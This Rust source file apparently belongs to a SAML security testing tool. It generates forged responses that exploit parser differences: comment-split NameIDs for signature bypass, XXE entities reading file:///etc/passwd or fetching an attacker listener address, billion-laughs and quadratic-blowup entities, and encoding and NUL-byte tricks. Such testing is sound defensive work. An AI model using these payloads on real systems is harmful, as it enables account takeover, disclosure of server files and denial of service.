//! Attacks on the parsers of a document: parsers that disagree, entities,
//! sizes, encodings.

use std::io::Write as _;

use base64::{Engine as _, engine::general_purpose::STANDARD};
use flate2::{Compression, write::DeflateEncoder};

use crate::{
    forge::{
        Signed,
        message::attribute,
        xml::{ASSERTION, element},
    },
    scene::{AttackScene, ForgedMessage, SELF, VICTIM, replaced},
};

/// The attacker is called `victim@example.com.evil.example`, and a comment cuts
/// the name in two. Canonical form leaves comments out, so the signature holds.
pub(crate) fn comment_in_name_id(scene: &AttackScene) -> ForgedMessage {
    with_long_name(scene, &format!("{VICTIM}<!-- -->.evil.example"))
}

/// The same with a processing instruction, by an identity provider that signs
/// every name.
pub(crate) fn instruction_in_name_id(scene: &AttackScene) -> ForgedMessage {
    let mut assertion = scene.assertion();
    assertion.subject.name_id = format!("{VICTIM}<?x?>.evil.example");
    scene.response(assertion.signed(&scene.idp)).xml("").into()
}

/// An element in the name.
pub(crate) fn element_in_name_id(scene: &AttackScene) -> ForgedMessage {
    let mut assertion = scene.assertion();
    assertion.subject.name_id = format!("{VICTIM}<saml:x></saml:x>.evil.example");
    scene.response(assertion.signed(&scene.idp)).xml("").into()
}

fn with_long_name(scene: &AttackScene, cut: &str) -> ForgedMessage {
    let mut assertion = scene.assertion();
    let whole = format!("{VICTIM}.evil.example");
    assertion.subject.name_id.clone_from(&whole);
    let xml = scene.response(assertion.signed(&scene.idp)).xml("");
    replaced(&xml, &whole, cut).into()
}

fn with_attribute(scene: &AttackScene, signed: &str, sent: &str) -> ForgedMessage {
    let mut assertion = scene.assertion();
    let attributes = attribute("email", &[signed]);
    assertion.attributes = element("saml:AttributeStatement", &[], &attributes);
    let xml = scene.response(assertion.signed(&scene.idp)).xml("");
    replaced(&xml, &format!(">{signed}<"), &format!(">{sent}<")).into()
}

/// A comment that cuts an attribute's value in two.
pub(crate) fn comment_in_attribute(scene: &AttackScene) -> ForgedMessage {
    let whole = format!("{VICTIM}.evil.example");
    with_attribute(scene, &whole, &format!("{VICTIM}<!-- -->.evil.example"))
}

/// A processing instruction that does.
pub(crate) fn instruction_in_attribute(scene: &AttackScene) -> ForgedMessage {
    let cut = format!("{VICTIM}<?x?>.evil.example");
    with_attribute(scene, &cut, &cut)
}

/// A processing instruction that names a style sheet to load.
pub(crate) fn stylesheet_instruction(scene: &AttackScene) -> ForgedMessage {
    let xml = scene.valid_response(Signed::Both);
    ForgedMessage::calling(|address| format!("<?xml-stylesheet href=\"{address}\"?>{xml}"))
}

fn with_doctype(scene: &AttackScene, doctype: &str) -> String {
    format!("<!DOCTYPE x {doctype}>{}", scene.valid_response(Signed::Both))
}

/// A document type that declares nothing.
pub(crate) fn doctype(scene: &AttackScene) -> ForgedMessage {
    with_doctype(scene, "[]").into()
}

/// A document type that would be fetched.
pub(crate) fn external_doctype(scene: &AttackScene) -> ForgedMessage {
    ForgedMessage::calling(|address| with_doctype(scene, &format!("SYSTEM \"{address}\"")))
}

/// An entity that would be fetched.
pub(crate) fn external_entity(scene: &AttackScene) -> ForgedMessage {
    ForgedMessage::calling(|address| {
        let xml = with_doctype(scene, &format!("[<!ENTITY e SYSTEM \"{address}\">]"));
        replaced(&xml, SELF, "&e;")
    })
}

/// An entity that is a file of the server.
pub(crate) fn file_entity(scene: &AttackScene) -> ForgedMessage {
    let xml = with_doctype(scene, "[<!ENTITY e SYSTEM \"file:///etc/passwd\">]");
    replaced(&xml, SELF, "&e;").into()
}

/// A parameter entity that would be fetched.
pub(crate) fn parameter_entity(scene: &AttackScene) -> ForgedMessage {
    ForgedMessage::calling(|address| {
        with_doctype(scene, &format!("[<!ENTITY % e SYSTEM \"{address}\"> %e;]"))
    })
}

/// Entities of entities: a thousand million laughs.
pub(crate) fn billion_laughs(scene: &AttackScene) -> ForgedMessage {
    let mut entities = "<!ENTITY l0 \"lol\">".to_owned();
    for level in 1..10 {
        let content = format!("&l{};", level - 1).repeat(10);
        entities += &format!("<!ENTITY l{level} \"{content}\">");
    }
    let xml = with_doctype(scene, &format!("[{entities}]"));
    replaced(&xml, SELF, "&l9;").into()
}

/// One long entity, many times.
pub(crate) fn quadratic_blowup(scene: &AttackScene) -> ForgedMessage {
    let entity = format!("[<!ENTITY l \"{}\">]", "x".repeat(50_000));
    replaced(&with_doctype(scene, &entity), SELF, &"&l;".repeat(20_000)).into()
}

/// An entity that is declared nowhere.
pub(crate) fn unknown_entity(scene: &AttackScene) -> ForgedMessage {
    replaced(&scene.valid_response(Signed::Assertion), SELF, "&victim;").into()
}

/// Something after the end.
pub(crate) fn trailing_document(scene: &AttackScene) -> ForgedMessage {
    let xml = scene.valid_response(Signed::Both);
    format!("{xml}{}", scene.response(scene.unsigned_assertion().xml("")).xml("")).into()
}

/// Something before the beginning.
pub(crate) fn leading_document(scene: &AttackScene) -> ForgedMessage {
    let xml = scene.valid_response(Signed::Both);
    format!("{}{xml}", scene.response(scene.unsigned_assertion().xml("")).xml("")).into()
}

/// End tags that do not fit: a parser that recovers reads something else.
pub(crate) fn mismatched_tags(scene: &AttackScene) -> ForgedMessage {
    replaced(&scene.valid_response(Signed::Both), "</saml:Subject>", "</saml:subject>").into()
}

/// An end that is missing.
pub(crate) fn cut_off(scene: &AttackScene) -> ForgedMessage {
    let xml = scene.valid_response(Signed::Both);
    xml[..xml.len() - 20].to_owned().into()
}

/// The same attribute twice.
pub(crate) fn repeated_attribute(scene: &AttackScene) -> ForgedMessage {
    let xml = scene.valid_response(Signed::Assertion);
    replaced(&xml, " ID=\"_response\"", " ID=\"_response\" ID=\"_other\"").into()
}

/// No XML at all.
pub(crate) fn not_xml(_: &AttackScene) -> ForgedMessage {
    ForgedMessage::bytes(b"Dear Sir or Madam,")
}

/// Levels within levels: as many as fit into 256 KiB.
pub(crate) fn many_levels(scene: &AttackScene) -> ForgedMessage {
    levels(scene, 30_000)
}

/// A hundred thousand levels.
pub(crate) fn hundred_thousand_levels(scene: &AttackScene) -> ForgedMessage {
    levels(scene, 100_000)
}

fn levels(scene: &AttackScene, levels: usize) -> ForgedMessage {
    let content = format!("{}{}", "<a>".repeat(levels), "</a>".repeat(levels));
    scene.response(content).xml("").into()
}

/// Ten thousand attributes on one element.
pub(crate) fn ten_thousand_xml_attributes(scene: &AttackScene) -> ForgedMessage {
    let attributes: String = (0..10_000).map(|number| format!(" a{number}=\"\"")).collect();
    with_status(scene, &attributes)
}

/// Ten thousand namespaces on one element.
pub(crate) fn ten_thousand_namespaces(scene: &AttackScene) -> ForgedMessage {
    let attributes: String = (0..10_000).map(|number| format!(" xmlns:n{number}=\"n\"")).collect();
    with_status(scene, &attributes)
}

fn with_status(scene: &AttackScene, attributes: &str) -> ForgedMessage {
    let xml = scene.valid_response(Signed::Both);
    replaced(&xml, "<samlp:Status>", &format!("<samlp:Status{attributes}>")).into()
}

/// Ten thousand attributes of the person, signed; written as short as can be.
pub(crate) fn ten_thousand_attributes(scene: &AttackScene) -> ForgedMessage {
    let attributes = "<Attribute Name=\"a\"></Attribute>".repeat(10_000);
    let mut assertion = scene.assertion();
    assertion.attributes =
        format!("<AttributeStatement xmlns=\"{ASSERTION}\">{attributes}</AttributeStatement>");
    let xml = scene.response(assertion.signed(&scene.idp)).xml("");
    replaced(&xml, "></Attribute>", "/>").into()
}

/// One value of two hundred thousand bytes in an attribute of an element.
pub(crate) fn long_xml_attribute(scene: &AttackScene) -> ForgedMessage {
    let long = format!(" ID=\"_{}\"", "r".repeat(150_000));
    replaced(&scene.valid_response(Signed::Assertion), " ID=\"_response\"", &long).into()
}

/// Text that is longer than any response.
pub(crate) fn more_than_256_kib(scene: &AttackScene) -> ForgedMessage {
    let xml = scene.valid_response(Signed::Both);
    replaced(&xml, "<samlp:Status>", &format!("{}<samlp:Status>", " ".repeat(256 * 1024))).into()
}

/// What is no base64.
pub(crate) fn bad_base64(scene: &AttackScene) -> ForgedMessage {
    let field = STANDARD.encode(scene.valid_response(Signed::Both));
    ForgedMessage::from_field(format!("{}!{}", &field[..100], &field[100..]))
}

/// Nothing in the field.
pub(crate) fn empty_field(_: &AttackScene) -> ForgedMessage {
    ForgedMessage::from_field("")
}

/// No field.
pub(crate) fn no_field(_: &AttackScene) -> ForgedMessage {
    ForgedMessage { field: None, listener: None }
}

/// Deflated, as the other binding has it.
pub(crate) fn deflated(scene: &AttackScene) -> ForgedMessage {
    let mut deflated = DeflateEncoder::new(Vec::new(), Compression::best());
    deflated.write_all(scene.valid_response(Signed::Both).as_bytes()).unwrap();
    ForgedMessage::bytes(&deflated.finish().unwrap())
}

/// UTF-16 with its mark.
pub(crate) fn utf16(scene: &AttackScene) -> ForgedMessage {
    let xml = scene.valid_response(Signed::Both);
    let units = std::iter::once(0xFEFF).chain(xml.encode_utf16());
    ForgedMessage::bytes(&units.flat_map(u16::to_le_bytes).collect::<Vec<_>>())
}

/// UTF-16 without a mark, which some parsers find out by themselves.
pub(crate) fn utf16_without_mark(scene: &AttackScene) -> ForgedMessage {
    let xml = scene.valid_response(Signed::Both);
    ForgedMessage::bytes(&xml.encode_utf16().flat_map(u16::to_be_bytes).collect::<Vec<_>>())
}

/// An encoding in which other bytes are the brackets.
pub(crate) fn utf7_declaration(scene: &AttackScene) -> ForgedMessage {
    let xml = scene.valid_response(Signed::Both);
    format!("<?xml version=\"1.0\" encoding=\"UTF-7\"?>{xml}").into()
}

/// XML 1.1, which allows other characters and line ends.
pub(crate) fn xml_1_1(scene: &AttackScene) -> ForgedMessage {
    let xml = scene.valid_response(Signed::Both);
    format!("<?xml version=\"1.1\" encoding=\"UTF-8\"?>{xml}").into()
}

/// An XML declaration that is not at the very beginning.
pub(crate) fn late_declaration(scene: &AttackScene) -> ForgedMessage {
    let xml = scene.valid_response(Signed::Both);
    format!("\n<?xml version=\"1.0\" encoding=\"UTF-8\"?>{xml}").into()
}

/// Text before the root element.
pub(crate) fn text_before_the_root(scene: &AttackScene) -> ForgedMessage {
    format!(" x {}", scene.valid_response(Signed::Both)).into()
}

/// A space that is none in XML.
pub(crate) fn no_break_space_before_the_root(scene: &AttackScene) -> ForgedMessage {
    format!("\u{a0}{}", scene.valid_response(Signed::Both)).into()
}

/// A comment before the root element.
pub(crate) fn comment_before_the_root(scene: &AttackScene) -> ForgedMessage {
    format!("\n<!-- -->\n{}", scene.valid_response(Signed::Both)).into()
}

/// White space, and nothing else.
pub(crate) fn white_space_alone(_: &AttackScene) -> ForgedMessage {
    ForgedMessage::bytes(b" \r\n\t")
}

/// A WS-Federation message.
pub(crate) fn ws_federation(scene: &AttackScene) -> ForgedMessage {
    let token = element("t:RequestedSecurityToken", &[], &scene.unsigned_assertion().xml(""));
    let trust = [("xmlns:t", "http://schemas.xmlsoap.org/ws/2005/02/trust")];
    element("t:RequestSecurityTokenResponse", &trust, &token).into()
}

/// A WS-Trust message of another version, with a genuine response inside.
pub(crate) fn ws_federation_around_a_genuine_response(scene: &AttackScene) -> ForgedMessage {
    let trust = [("xmlns:t", "http://docs.oasis-open.org/ws-sx/ws-trust/200512")];
    let content = scene.valid_response(Signed::Both);
    element("t:RequestSecurityTokenResponseCollection", &trust, &content).into()
}

/// A SAML 1.1 message.
pub(crate) fn saml_1_1(_: &AttackScene) -> ForgedMessage {
    let versions = [("MajorVersion", "1"), ("MinorVersion", "1"), ("ResponseID", "_response")];
    let names = [("xmlns:samlp", "urn:oasis:names:tc:SAML:1.0:protocol")];
    element("samlp:Response", &[names.as_slice(), &versions].concat(), "").into()
}

/// Bytes that are no UTF-8.
pub(crate) fn bad_utf8(scene: &AttackScene) -> ForgedMessage {
    let xml = scene.valid_response(Signed::Assertion).into_bytes();
    let at = xml.windows(SELF.len()).position(|window| window == SELF.as_bytes()).unwrap();
    let mut broken = xml;
    broken[at] = 0xC0;
    ForgedMessage::bytes(&broken)
}

/// A NUL byte in the name: what reads C strings stops there.
pub(crate) fn nul_bytes(scene: &AttackScene) -> ForgedMessage {
    let xml = scene.valid_response(Signed::Assertion);
    replaced(&xml, SELF, &format!("{VICTIM}\0.evil.example")).into()
}

/// A NUL as a reference, which is no character of XML either.
pub(crate) fn nul_reference(scene: &AttackScene) -> ForgedMessage {
    let xml = scene.valid_response(Signed::Assertion);
    replaced(&xml, SELF, &format!("{VICTIM}&#0;.evil.example")).into()
}
